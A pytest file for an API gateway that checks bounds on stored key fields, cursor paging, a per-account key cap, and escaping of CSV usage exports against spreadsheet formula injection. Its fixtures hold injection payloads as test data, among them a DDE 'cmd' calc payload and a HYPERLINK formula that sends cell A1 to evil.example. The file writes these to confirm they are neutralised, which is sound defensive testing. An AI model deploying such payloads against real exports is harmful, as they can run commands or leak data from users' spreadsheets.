"""Bounds on everything a client stores with a key (issue 10, item 8) and CSV cells escaped
against formula injection (item 10), on a gateway of its own: a keys-per-account cap of
KEY_CAP and a catalog with models whose ids a spreadsheet would evaluate."""

from __future__ import annotations

import csv
import io
import json
import time
import uuid

import pytest

from gateway import REPO, Gateway, list_keys, log_path

KEY_CAP = 12
MAX_NAME = 200
MAX_METADATA = 8192
MAX_MODELS = 256
#: Requested (catalog) id → upstream id (what the simulator echoes as the served model).
FORMULA_MODELS = {
    "=1+2": "@SUM(1,2)",
    "+cmd|' /C calc'!A0": "-2+3",
    "-HYPERLINK": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "@attack": "+1",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")


def _catalog_with_formula_models() -> str:
    text = (REPO / "catalog" / "models.toml").read_text()
    for model, upstream in FORMULA_MODELS.items():
        text += (f"\n[[model]]\nid = {json.dumps(model)}\nfamily = \"gpt\"\nkind = \"chat\"\n"
                 "context_window = 128000\nmax_output = 4096\ninput_per_mtok = \"1.00\"\n"
                 "cached_input_per_mtok = \"0.50\"\noutput_per_mtok = \"2.00\"\n"
                 f"\n[[model.route]]\nprovider = \"openai\"\nupstream_id = {json.dumps(upstream)}\n")
    return text


@pytest.fixture(scope="module")
def bounded(tmp_path_factory):
    root = tmp_path_factory.mktemp("bounds")
    catalog = root / "catalog.toml"
    catalog.write_text(_catalog_with_formula_models())
    g = Gateway(root / "data", log_path=log_path("key-bounds", root),
                config_text=f"max_keys_per_account = {KEY_CAP}\ncatalog = {json.dumps(str(catalog))}\n")
    g.start()
    yield g
    g.stop()


@pytest.fixture
def account(bounded):
    """A fresh account (so each test has its own keys and cap), as a management client."""
    with bounded.http(None) as anon:
        r = anon.post("/v1/auth/signup", json={"email": f"bounds-{uuid.uuid4().hex[:12]}@example.com",
                                                "password": "correct horse battery staple"})
        assert r.status_code == 201, r.text
    with bounded.http(r.json()["management_key"]) as mgmt:
        mgmt.email = r.json()["email"]
        yield mgmt


def _credit(gateway, mgmt, usd: str) -> None:
    """Tops the account up through the operator CLI, and waits until the gateway follows."""
    res = gateway.admin("credit", "--account", mgmt.email, "--amount", usd, "--reason", "e2e")
    assert res.returncode == 0, res.stderr
    for _ in range(100):
        if mgmt.get("/v1/account").json()["balance"] == usd:
            return
        time.sleep(0.05)
    raise AssertionError("the gateway never saw the credit")


def _refused(r, param):
    assert r.status_code == 400, f"{r.status_code} {r.text[:300]}"
    error = r.json()["error"]
    assert error["param"] == param, error
    assert error["type"] == "invalid_request_error", error
    return error


def test_every_stored_field_is_bounded_with_a_400_naming_it(account):
    ok = account.post("/v1/keys", json={
        "name": "n" * MAX_NAME, "models": ["gpt-6.2-sol"] * MAX_MODELS,
        "metadata": {"blob": "x" * (MAX_METADATA - len('{"blob":""}'))},
        "rpm_limit": 1_000_000_000, "tpm_limit": 10**18, "max_concurrency": 1_000_000})
    assert ok.status_code == 201, ok.text
    kid = ok.json()["id"]

    cases = [
        ({"name": "n" * (MAX_NAME + 1)}, "name"),
        ({"name": 7}, "name"),
        ({"metadata": {"blob": "x" * (MAX_METADATA - len('{"blob":""}') + 1)}}, "metadata"),
        ({"metadata": ["not", "an", "object"]}, "metadata"),
        ({"models": ["gpt-6.2-sol"] * (MAX_MODELS + 1)}, "models"),
        ({"models": "gpt-6.2-sol"}, "models"),
        ({"models": ["no-such-model"]}, "models"),
        ({"rpm_limit": 0}, "rpm_limit"),
        ({"rpm_limit": -1}, "rpm_limit"),
        ({"rpm_limit": 1.5}, "rpm_limit"),
        ({"rpm_limit": "60"}, "rpm_limit"),
        ({"rpm_limit": 1_000_000_001}, "rpm_limit"),
        ({"rpm_limit": 2**32}, "rpm_limit"),
        ({"tpm_limit": 2**63}, "tpm_limit"),  # was a 500
        ({"tpm_limit": 2**64 + 1}, "tpm_limit"),
        ({"tpm_limit": 10**18 + 1}, "tpm_limit"),
        ({"max_concurrency": 0}, "max_concurrency"),
        ({"max_concurrency": 1_000_001}, "max_concurrency"),
        ({"bogus": 1}, "bogus"),
    ]
    for fields, param in cases:
        _refused(account.post("/v1/keys", json=fields), param)
        _refused(account.patch(f"/v1/keys/{kid}", json=fields), param)
    # Nothing refused was stored, and the key kept its settings.
    keys = list_keys(account)
    assert [k["id"] for k in keys] == [kid]
    assert keys[0]["tpm_limit"] == 10**18 and keys[0]["name"] == "n" * MAX_NAME
    # null clears a limit.
    cleared = account.patch(f"/v1/keys/{kid}", json={"tpm_limit": None})
    assert cleared.status_code == 200 and cleared.json()["tpm_limit"] is None, cleared.text


def test_keys_are_listed_in_bounded_cursor_pages(account):
    big = {"blob": "x" * (MAX_METADATA - len('{"blob":""}'))}
    made = []
    for i in range(KEY_CAP):
        r = account.post("/v1/keys", json={"name": f"k{i:02d}" + "n" * (MAX_NAME - 3), "metadata": big})
        assert r.status_code == 201, r.text
        made.append(r.json()["id"])

    pages, after = [], None
    while True:
        r = account.get("/v1/keys", params={"limit": 5, **({"after": after} if after else {})})
        assert r.status_code == 200, r.text
        body = r.json()
        assert len(body["data"]) <= 5
        # What one page costs is bounded by the page, whatever the account holds: 5 keys of
        # the largest name and metadata, and their other fields.
        assert len(r.content) <= 5 * (MAX_METADATA + 4 * MAX_NAME + 2_000), len(r.content)
        pages.append([k["id"] for k in body["data"]])
        assert body["has_more"] == (body["next_cursor"] is not None)
        assert r.headers.get("x-next-cursor") == body["next_cursor"]
        if not body["has_more"]:
            break
        after = body["next_cursor"]
    assert [len(p) for p in pages] == [5, 5, 2]
    listed = [kid for page in pages for kid in page]
    assert listed == list(reversed(made)), "every key once, newest first"

    default = account.get("/v1/keys").json()
    assert len(default["data"]) == KEY_CAP and default["has_more"] is False
    assert account.get("/v1/keys", params={"after": "key_nope"}).json()["data"] == []
    _refused(account.get("/v1/keys", params={"limit": 0}), "limit")
    _refused(account.get("/v1/keys", params={"limit": 1001}), "limit")
    _refused(account.get("/v1/keys", params={"limit": "lots"}), "query")
    _refused(account.get("/v1/keys", params={"sort": "name"}), "query")


def test_live_keys_per_account_are_capped(account):
    ids = []
    for _ in range(KEY_CAP):
        r = account.post("/v1/keys", json={})
        assert r.status_code == 201, r.text
        ids.append(r.json()["id"])
    over = account.post("/v1/keys", json={"name": "one too many"})
    assert over.status_code == 400, over.text
    error = over.json()["error"]
    assert error["code"] == "key_limit_reached", error
    assert str(KEY_CAP) in error["message"], error
    assert not any(w in error["message"].lower() for w in ("credit", "balance")), error
    # A revoked key frees its place.
    assert account.delete(f"/v1/keys/{ids[0]}").status_code == 200
    assert account.post("/v1/keys", json={}).status_code == 201
    assert account.post("/v1/keys", json={}).status_code == 400


def test_csv_cells_a_spreadsheet_would_evaluate_are_escaped(bounded, account):
    _credit(bounded, account, "10")
    key = account.post("/v1/keys", json={"name": "=cmd|' /C calc'!A0", "metadata": {"note": "@x"}}).json()
    with bounded.http(key["key"]) as c:
        for model in FORMULA_MODELS:
            r = c.post("/v1/chat/completions", json={"model": model, "messages": [{"role": "user", "content": "hi"}]})
            assert r.status_code == 200, r.text
            assert r.headers["x-router-one-served-model"] == FORMULA_MODELS[model]
    rows = []
    for _ in range(50):
        r = account.get("/v1/usage", params={"format": "csv", "limit": 1000})
        assert r.status_code == 200, r.text
        rows = list(csv.DictReader(io.StringIO(r.text, newline="")))
        if len(rows) >= len(FORMULA_MODELS):
            break
        time.sleep(0.1)
    assert len(rows) == len(FORMULA_MODELS), r.text
    for row in rows:
        model = row["requested_model"].removeprefix("'")
        assert row["requested_model"] == "'" + model, row
        assert row["served_model"] == "'" + FORMULA_MODELS[model], row
        for column, cell in row.items():
            assert not cell.startswith(FORMULA_STARTS), f"{column} starts a formula: {cell!r}"
    # Quoted in the raw text too (RFC 4180 with the quote inside), and still one row a record.
    assert '"\'=1+2"' in r.text and '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"' in r.text
    assert len(r.text.strip().splitlines()) == 1 + len(FORMULA_MODELS)
